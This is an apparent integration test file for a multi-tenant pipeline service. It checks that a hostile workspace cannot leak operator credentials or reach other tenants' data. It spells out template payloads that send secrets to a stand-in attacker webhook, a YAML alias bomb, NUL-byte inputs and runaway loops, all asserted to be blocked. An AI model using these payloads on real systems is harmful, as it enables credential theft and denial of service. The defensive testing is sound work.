import { Client } from 'pg';
import { Redis } from 'ioredis';
import { deadLetterStreamOf } from '@mockops/event-stream';
import {
  TEST_DATABASE_URL,
  TEST_REDIS_URL,
  createTestEnv,
  eventually,
  startGithubApiDouble,
  startHttpSink,
  startMockopsProcess,
  startSmtpSink,
  type GithubApiDouble,
  type HttpSink,
  type MockopsProcess,
  type SmtpSink,
  type TestEnv,
} from '@mockops/testing';

// A hostile workspace author, tried the way the issue describes: the one-process app from the build as
// a real process, two workspaces with scoped keys and an admin key, the operator's credentials set, and
// an HTTP server on loopback standing in for the attacker's own server. Every vector is tried through
// the public API or the stream; afterwards, nothing of any operator credential — nor any transform of
// it — may have reached the attacker, an API answer or a log line.

const ADMIN = 'admin-key-3f9a2c71d0';
const KEY_A = 'team-a-key-81b2e4f6a9';
const KEY_B = 'team-b-key-5c07d3e8b1';

const OPERATOR = {
  github: 'ghp_OPERATORgithubTOKEN42x9',
  webhook: 'whsec_OPERATOR_signing_7731',
  slackPath: 'OPERATORslackPATH0xDEAD',
  smtpPassword: 'smtpOPERATORpass5599',
  deploy: 'deployOPERATORkey-1234',
};

/** Every way a secret could come out: as is and the transforms the issue lists. */
function forms(secret: string): string[] {
  return [
    secret,
    secret.toUpperCase(),
    secret.toLowerCase(),
    Buffer.from(secret).toString('base64').replace(/=+$/, ''),
    Buffer.from(secret).toString('hex'),
    encodeURIComponent(secret),
    [...secret].reverse().join(''),
    [...secret].join(' '),
    secret.slice(2, -2),
  ];
}

describe('a hostile workspace author, against the running system', () => {
  let env: TestEnv;
  let app: MockopsProcess;
  let attacker: HttpSink;
  let slack: HttpSink;
  let smtp: SmtpSink;
  let github: GithubApiDouble;
  let redis: Redis;
  let pg: Client;
  const answers: string[] = [];
  let seq = 0;

  beforeAll(async () => {
    attacker = await startHttpSink();
    slack = await startHttpSink();
    smtp = await startSmtpSink();
    github = await startGithubApiDouble({ tokens: [OPERATOR.github] });
    env = await createTestEnv({
      MOCKOPS_API_KEYS: `${ADMIN}:admin,${KEY_A}:ws=ws-a,${KEY_B}:ws=ws-b`,
      GITHUB_TOKEN: OPERATOR.github,
      GITHUB_API_URL: github.url,
      WEBHOOK_SECRET: OPERATOR.webhook,
      SLACK_WEBHOOK_URL: `${slack.url}/services/T0/B0/${OPERATOR.slackPath}`,
      SMTP_URL: `smtp://operator:${OPERATOR.smtpPassword}@127.0.0.1:${smtp.port}`,
      MOCKOPS_SECRET_DEPLOY_KEY: OPERATOR.deploy,
      MOCKOPS_EGRESS_ALLOW: '127.0.0.1',
      // One job at a time: a handler that did not stop would block every later step.
      MOCKOPS_WORKER_CONCURRENCY: '1',
      MOCKOPS_EVENT_MAX_BYTES: String(64 * 1024),
      MOCKOPS_RATE_LIMIT: 'off',
      LOG_LEVEL: 'log',
    });
    app = await startMockopsProcess('mockops', env.env);
    redis = new Redis(TEST_REDIS_URL);
    pg = new Client({ connectionString: TEST_DATABASE_URL });
    await pg.connect();
  }, 120_000);

  afterAll(async () => {
    await app?.stop();
    await redis?.quit();
    await pg?.end();
    await Promise.all([attacker?.stop(), slack?.stop(), smtp?.stop(), github?.stop()]);
    await env?.cleanup();
  });

  async function api(key: string | null, method: string, path: string, body?: unknown, contentType = 'application/json') {
    const headers: Record<string, string> = {};
    if (key) headers.authorization = `Bearer ${key}`;
    if (body !== undefined) headers['content-type'] = contentType;
    const res = await fetch(`${app.url}${path.startsWith('/') ? path : `/api/v1/${path}`}`, {
      method,
      headers,
      body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
    });
    const text = await res.text();
    answers.push(text);
    let json: any;
    try {
      json = text ? JSON.parse(text) : undefined;
    } catch {
      json = undefined;
    }
    return { status: res.status, json, text };
  }

  const createPipeline = async (key: string, yaml: string) => api(key, 'POST', 'pipelines', yaml, 'application/yaml');

  async function mustCreate(key: string, yaml: string): Promise<string> {
    const res = await createPipeline(key, yaml);
    if (res.status !== 201) throw new Error(`create failed ${res.status}: ${res.text}`);
    return res.json.id;
  }

  /** Publishes through the API and returns the event id. */
  async function publish(key: string, type: string, payload: Record<string, unknown>, workspace?: string, id = `ev-${++seq}`) {
    const res = await api(key, 'POST', 'events', { id, type, ...(workspace ? { workspace_id: workspace } : {}), payload });
    if (res.status !== 202) throw new Error(`publish failed ${res.status}: ${res.text}`);
    return id;
  }

  async function finished(key: string, pipelineId: string, eventId: string) {
    return eventually(async () => {
      const list = await api(key, 'GET', `pipelines/${pipelineId}/executions`);
      const e = (list.json?.items ?? []).find((x: any) => x.event_id === eventId && ['succeeded', 'failed', 'cancelled'].includes(x.status));
      return e ? (await api(key, 'GET', `executions/${e.id}`)).json : undefined;
    }, `the execution for ${eventId}`, 30_000);
  }

  const hook = (name: string, trigger: string, config: string) => `name: ${name}
definition:
  triggers:
    - event: ${trigger}
  steps:
    - name: hook
      step_type: notify
      config:
        type: webhook
        webhook_url: "${attacker.url}/${name}"
${config}`;

  it('cannot put an operator credential, or any transform of it, into what its pipeline sends: refused at save with the position', async () => {
    const attempts = [
      '{{ secrets.GITHUB_TOKEN }}',
      '{{ secrets.GITHUB_TOKEN | base64_encode }}',
      '{{ secrets.GITHUB_TOKEN | upcase }}',
      '{{ secrets.GITHUB_TOKEN | split: "" | join: " " }}',
      '{{ secrets.WEBHOOK_SECRET }}',
      '{% for s in secrets %}{{ s }}{% endfor %}',
      '{% assign t = secrets.DEPLOY_KEY %}{{ t | reverse }}',
    ];
    for (const [i, message] of attempts.entries()) {
      const yaml = hook(`leak-${i}`, 'scenario.published', `        message: '${message}'\n`);
      for (const path of ['pipelines', 'pipelines/validate']) {
        const res = await api(KEY_B, 'POST', path, yaml, 'application/yaml');
        const details = path === 'pipelines' ? res.json.details : res.json.errors;
        expect(details).toEqual(expect.arrayContaining([expect.objectContaining({ code: 'SECRET_USAGE', line: 11, column: 18 })]));
        if (path === 'pipelines') expect(res.status).toBe(400);
      }
    }
    // In a credential field it is the workspace's scope that decides: these are the operator's.
    const header = await createPipeline(KEY_B, hook('leak-header', 'scenario.published', `        message: m\n        headers:\n          Authorization: "{{ secrets.GITHUB_TOKEN }}"\n`));
    expect(header.json.details).toEqual([expect.objectContaining({ code: 'SECRET_NOT_ALLOWED', line: 13 })]);
    const signing = await createPipeline(KEY_B, hook('leak-signing', 'scenario.published', `        message: m\n        webhook_secret: "{{ secrets.WEBHOOK_SECRET }}"\n`));
    expect(signing.json.details).toEqual([expect.objectContaining({ code: 'SECRET_NOT_ALLOWED', line: 12 })]);
    expect(attacker.requests).toHaveLength(0);
  });

  it('a revision saved before these rules still leaks nothing: the step fails for good and nothing is sent', async () => {
    const id = await mustCreate(KEY_B, hook('old-revision', 'custom.old', '        message: "hello"\n'));
    // What such a revision looks like in the database (the rule did not exist when it was saved).
    await pg.query(
      `UPDATE "${env.schema}".pipeline_revisions SET document = jsonb_set(document, '{definition,steps,0,config,message}', to_jsonb($2::text))
       WHERE pipeline_id = $1`,
      [id, '{{ secrets.GITHUB_TOKEN | base64_encode }}'],
    );
    const eventId = await publish(KEY_B, 'custom.old', { n: 1 });
    const done = await finished(KEY_B, id, eventId);
    expect(done.status).toBe('failed');
    expect(done.steps[0]).toMatchObject({ status: 'failed', error_code: 'SECRET_USAGE', attempts: 1 });
    expect(attacker.requests.filter((r) => r.pathname === '/old-revision')).toHaveLength(0);
  });

  it("cannot send the operator's GitHub token to a host it names (create_pr api_url or repository)", async () => {
    const pr = (name: string, extra: string) => `name: ${name}
definition:
  triggers:
    - event: custom.pr
  steps:
    - name: pr
      step_type: create_pr
      config:
        repository: "https://github.com/org/repo"
        branch: main
        title: "t"
${extra}        files:
          - path: a.txt
            content: "x"
`;
    // A workspace pipeline: the operator's token is not its to use at all.
    const own = await mustCreate(KEY_B, pr('pr-b', `        api_url: "${attacker.url}/api"\n`));
    const e1 = await finished(KEY_B, own, await publish(KEY_B, 'custom.pr', {}));
    expect(e1.steps[0]).toMatchObject({ status: 'failed', error_code: 'GITHUB_TOKEN_MISSING' });
    // A global pipeline may use it, but only towards the configured GitHub API.
    const global = await mustCreate(ADMIN, pr('pr-global', `        api_url: "${attacker.url}/api"\n`));
    const e2 = await finished(ADMIN, global, await publish(KEY_B, 'custom.pr', {}));
    expect(e2.steps[0]).toMatchObject({ status: 'failed', error_code: 'GITHUB_TOKEN_BOUND' });
    expect(attacker.requests.filter((r) => r.pathname.startsWith('/api'))).toHaveLength(0);
    expect(github.violations).toEqual([]);
  });

  it('uses its own secrets, and only its own; the API lists names, never values', async () => {
    expect((await api(KEY_B, 'PUT', 'workspaces/ws-b/secrets/HOOK_TOKEN', { value: 'b-own-hook-token-9911' })).status).toBe(201);
    expect((await api(KEY_A, 'PUT', 'workspaces/ws-a/secrets/HOOK_TOKEN', { value: 'a-own-hook-token-4422' })).status).toBe(201);
    const id = await mustCreate(KEY_B, hook('own-secret', 'custom.own', '        message: "mine"\n        headers:\n          X-Token: "{{ secrets.HOOK_TOKEN }}"\n'));
    const done = await finished(KEY_B, id, await publish(KEY_B, 'custom.own', {}));
    expect(done.status).toBe('succeeded');
    const [req] = attacker.requests.filter((r) => r.pathname === '/own-secret');
    expect(req.headers['x-token']).toBe('b-own-hook-token-9911');
    expect(done.steps[0].config.headers['X-Token']).toBe('***');

    const list = await api(KEY_B, 'GET', 'workspaces/ws-b/secrets');
    expect(list.json.items).toEqual([expect.objectContaining({ name: 'HOOK_TOKEN', workspace_id: 'ws-b' })]);
    expect(list.text).not.toContain('b-own-hook-token-9911');
    expect(JSON.stringify(answers)).not.toContain('a-own-hook-token-4422');
  });

  it("an event id another workspace used is not a duplicate, and the answer says nothing about the other's", async () => {
    const a = await api(KEY_A, 'POST', 'events', { id: 'shared-id-1', type: 'custom.dedupe', payload: {} });
    const b = await api(KEY_B, 'POST', 'events', { id: 'shared-id-1', type: 'custom.dedupe', payload: {} });
    const again = await api(KEY_B, 'POST', 'events', { id: 'shared-id-1', type: 'custom.dedupe', payload: {} });
    expect([a.json.duplicate, b.json.duplicate, again.json.duplicate]).toEqual([false, false, true]);
  });

  it("a NUL in its events is refused or dead-lettered, and never stops another workspace's versions from being recorded", async () => {
    const nul = await api(KEY_B, 'POST', 'events', { type: 'scenario.published', payload: { scenario_id: 'sc-b', version: '1\u0000' } });
    expect(nul.status).toBe(400);
    expect(nul.json).toMatchObject({ code: 'VALIDATION_FAILED', details: [expect.objectContaining({ path: 'payload.version' })] });
    // Straight onto the stream, as a producer with Redis access would: dead-lettered with the reason.
    await redis.xadd(env.config.events.stream, '*', 'event', JSON.stringify({ id: 'nul-1', type: 'scenario.published', workspace_id: 'ws-b', payload: { scenario_id: 'sc-b', version: '1\u0000' } }));
    await publish(KEY_A, 'scenario.published', { scenario_id: 'sc-a', scenario_name: 'A', version: '7', workspace_id: 'ws-a' }, 'ws-a');
    const envs = await eventually(async () => {
      const r = await api(KEY_A, 'GET', 'workspaces/ws-a/environments');
      return r.json.environments?.some((e: any) => e.entities?.some((x: any) => x.entity_id === 'sc-a' && x.version === '7')) ? r.json : undefined;
    }, "ws-a's scenario version to be recorded", 30_000);
    expect(envs.workspace_id).toBe('ws-a');
    const dead = (await redis.xrange(deadLetterStreamOf(env.config.events.stream), '-', '+')).map(([, f]) => Object.fromEntries(f.flatMap((v, i, a) => (i % 2 ? [] : [[v, a[i + 1]]]))));
    expect(dead.find((e) => e.reason.includes('NUL'))).toMatchObject({ code: 'invalid_event', group: 'mockops-matcher', reason: expect.stringMatching(/payload.version/) });
    // Nothing is left pending for either consumer group: no entry is retried forever.
    await eventually(async () => {
      const groups = (await redis.xinfo('GROUPS', env.config.events.stream)) as unknown[][];
      return groups.every((g) => Number(g[g.indexOf('pending') + 1]) === 0);
    }, 'both consumer groups to have nothing pending');
  });

  it("cannot read, cancel or re-run a global pipeline's executions, before or after the pipeline is deleted", async () => {
    const id = await mustCreate(ADMIN, `name: global-hook
definition:
  triggers:
    - event: custom.global
  steps:
    - name: hook
      step_type: notify
      config:
        type: webhook
        webhook_url: "${slack.url}/global"
        message: "global"
`);
    const done = await finished(ADMIN, id, await publish(KEY_B, 'custom.global', {}));
    expect(done.workspace_id).toBeNull();
    for (const phase of ['before', 'after'] as const) {
      if (phase === 'after') expect((await api(ADMIN, 'DELETE', `pipelines/${id}`)).status).toBe(204);
      expect((await api(KEY_B, 'GET', `executions/${done.id}`)).status).toBe(404);
      expect((await api(KEY_B, 'POST', `executions/${done.id}/cancel`)).status).toBe(404);
      expect((await api(KEY_B, 'POST', `executions/${done.id}/rerun`)).status).toBe(404);
      expect((await api(ADMIN, 'GET', `executions/${done.id}`)).status).toBe(200);
    }
  });

  it('work is bounded: templates that would loop for long fail the step quickly and the worker goes on', async () => {
    const loop = '{% for i in (1..400) %}{% for j in (1..400) %}{% endfor %}{% endfor %}';
    const heavy = Array.from({ length: 50 }, (_, i) => `          X-L${i}: "${loop}"`).join('\n');
    const id = await mustCreate(KEY_B, hook('heavy', 'custom.heavy', `        message: "m"\n        headers:\n${heavy}\n`));
    const done = await finished(KEY_B, id, await publish(KEY_B, 'custom.heavy', {}));
    expect(done.steps[0]).toMatchObject({ status: 'failed', error_code: 'TEMPLATE_ERROR' });
    expect(done.steps[0].error).toMatch(/limit/);
  });

  it('a YAML alias bomb as its spec fails the SDK step at once, off the event loop, and the worker goes on', async () => {
    // 462 bytes that expand to 9^9 strings: the spec is parsed with bounded nodes, on a thread of its own.
    const bomb = ['openapi: 3.0.0', 'info: {title: bomb, version: "1"}', 'paths: {}', 'x-a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let k = 1; k < 9; k++) bomb.push(`x-${'abcdefghi'[k]}: &${'abcdefghi'[k]} [${Array(9).fill(`*${'abcdefghi'[k - 1]}`).join(',')}]`);
    const id = await mustCreate(
      KEY_B,
      `name: bomb
definition:
  triggers:
    - event: custom.bomb
  steps:
    - name: sdk
      step_type: regenerate_sdk
      config:
        languages: [typescript]
        spec: |
${bomb.map((l) => `          ${l}`).join('\n')}
`,
    );
    const done = await finished(KEY_B, id, await publish(KEY_B, 'custom.bomb', {}));
    expect(done.steps[0]).toMatchObject({ status: 'failed', error_code: 'SDK_SPEC_INVALID', attempts: 1 });
    expect(done.steps[0].error).toMatch(/aliases|maxNodes/);
    // The same worker process runs the next step right away.
    const next = await mustCreate(KEY_B, hook('after-bomb', 'custom.after_bomb', '        message: "still here"\n'));
    expect((await finished(KEY_B, next, await publish(KEY_B, 'custom.after_bomb', {}))).status).toBe('succeeded');
  });

  it('a cancel stops a running step through its signal, and the worker is free again', async () => {
    attacker.respondWith((req) => (req.pathname === '/hang' ? new Promise(() => undefined) : { status: 200, body: 'ok' }));
    const id = await mustCreate(KEY_B, `name: hang
definition:
  triggers:
    - event: custom.hang
  steps:
    - name: hook
      step_type: notify
      timeout: 600
      config:
        type: webhook
        webhook_url: "${attacker.url}/hang"
        message: "m"
        timeout_seconds: 300
`);
    await publish(KEY_B, 'custom.hang', {});
    await eventually(async () => attacker.requests.some((r) => r.pathname === '/hang'), 'the step to call the hanging endpoint');
    const list = await api(KEY_B, 'GET', `pipelines/${id}/executions`);
    const cancelled = await api(KEY_B, 'POST', `executions/${list.json.items[0].id}/cancel`);
    expect(cancelled.json.status).toBe('cancelled');
    await attacker.waitForAborted(1, 10_000);
    // With one job at a time, this runs only because the cancelled handler let go.
    const after = await mustCreate(KEY_B, hook('after-cancel', 'custom.after', '        message: "next"\n'));
    expect((await finished(KEY_B, after, await publish(KEY_B, 'custom.after', {}))).status).toBe('succeeded');
    attacker.respondWith([]);
  });

  it("a hostile server's NUL bytes in its answer are stored safely: one delivery, the step succeeded", async () => {
    attacker.respondWith((req) => (req.pathname === '/nul-answer' ? { status: 200, body: Buffer.from('ok\u0000\u0000boom') } : { status: 200, body: 'ok' }));
    const id = await mustCreate(KEY_B, hook('nul-answer', 'custom.nul', '        message: "m"\n'));
    const done = await finished(KEY_B, id, await publish(KEY_B, 'custom.nul', {}));
    expect(done.status).toBe('succeeded');
    expect(done.steps[0].outputs.response_excerpt).toBe('ok\uFFFD\uFFFDboom');
    await new Promise((r) => setTimeout(r, 1500));
    expect(attacker.requests.filter((r) => r.pathname === '/nul-answer')).toHaveLength(1);
    attacker.respondWith([]);
  });

  it("gets 404 for every one of another workspace's resources", async () => {
    // ws-a's resources: an execution, a promotion waiting for approval, its environments and secrets.
    const promote = await mustCreate(KEY_A, `name: promote-a
definition:
  triggers:
    - event: scenario.published
      filters:
        scenario_id: sc-approve
  steps:
    - name: promote
      step_type: auto_promote
      config:
        entity_type: scenario
        entity_id: "{{event.scenario_id}}"
        from_environment: dev
        to_environment: test
        require_approval: true
`);
    await publish(KEY_A, 'scenario.published', { scenario_id: 'sc-approve', version: '1', workspace_id: 'ws-a' }, 'ws-a');
    const waiting = await eventually(async () => {
      const l = await api(KEY_A, 'GET', `pipelines/${promote}/executions`);
      return l.json.items.find((e: any) => e.status === 'waiting');
    }, 'the promotion to wait for approval', 30_000);
    const promotions = await api(KEY_A, 'GET', 'promotions?workspace_id=ws-a&status=pending');
    const promotion = promotions.json.items[0];
    expect(promotion).toBeDefined();

    const e = waiting.id;
    const checks: [string, string, unknown?][] = [
      ['GET', `executions/${e}`],
      ['POST', `executions/${e}/cancel`],
      ['POST', `executions/${e}/rerun`],
      ['GET', `executions/${e}/artifacts`],
      ['GET', `executions/${e}/artifacts/sdks`],
      ['GET', `promotions/${promotion.id}`],
      ['POST', `promotions/${promotion.id}/approve`, {}],
      ['POST', `promotions/${promotion.id}/reject`, {}],
      ['GET', 'workspaces/ws-a/environments'],
      ['PUT', 'workspaces/ws-a/environments', { environments: ['dev', 'prod'] }],
      ['GET', 'workspaces/ws-a/secrets'],
      ['PUT', 'workspaces/ws-a/secrets/STOLEN', { value: 'x' }],
      ['DELETE', 'workspaces/ws-a/secrets/HOOK_TOKEN'],
      ['GET', `pipelines/${promote}`],
      ['GET', `pipelines/${promote}/executions`],
    ];
    for (const [method, path, body] of checks) {
      const res = await api(KEY_B, method, path, body);
      expect([method, path, res.status]).toEqual([method, path, 404]);
    }
    // Lists show nothing of ws-a.
    expect((await api(KEY_B, 'GET', 'promotions?workspace_id=ws-a')).json.items).toEqual([]);
    expect((await api(KEY_B, 'GET', 'pipelines?workspace_id=ws-a')).json.items).toEqual([]);
    // And ws-a's own things are untouched: still waiting, secret still there.
    expect((await api(KEY_A, 'GET', `promotions/${promotion.id}`)).json.status).toBe('pending');
    expect((await api(KEY_A, 'GET', 'workspaces/ws-a/secrets')).json.items.map((s: any) => s.name)).toEqual(['HOOK_TOKEN']);
  });

  it('probes say up or down without a key; details only to admin keys', async () => {
    const open = await api(null, 'GET', '/readyz');
    expect(open.status).toBe(200);
    expect(open.json).toEqual({ status: 'ok', checks: { postgres: 'up', redis: 'up' } });
    const admin = await api(ADMIN, 'GET', '/readyz');
    expect(admin.json.details).toBeDefined();
    expect((await api(KEY_B, 'GET', '/readyz')).json).toEqual(open.json);
  });

  it('leaves no operator credential, nor any transform of one, at the attacker, in an API answer or in the logs', async () => {
    const operatorValues = [OPERATOR.github, OPERATOR.webhook, OPERATOR.slackPath, OPERATOR.smtpPassword, OPERATOR.deploy];
    const atAttacker = attacker.requests.map((r) => `${r.path}\n${JSON.stringify(r.headers)}\n${r.text}`).join('\n');
    const logs = app.output();
    expect(logs.length).toBeGreaterThan(1000);
    for (const value of operatorValues) {
      for (const form of forms(value)) {
        expect([form, atAttacker.includes(form)]).toEqual([form, false]);
        expect([form, answers.some((a) => a.includes(form))]).toEqual([form, false]);
        expect([form, logs.includes(form)]).toEqual([form, false]);
      }
    }
    // A workspace's own secret is its own business at its own server, but never in a log or an answer.
    expect(logs).not.toContain('b-own-hook-token-9911');
    expect(answers.some((a) => a.includes('b-own-hook-token-9911'))).toBe(false);
  });
});
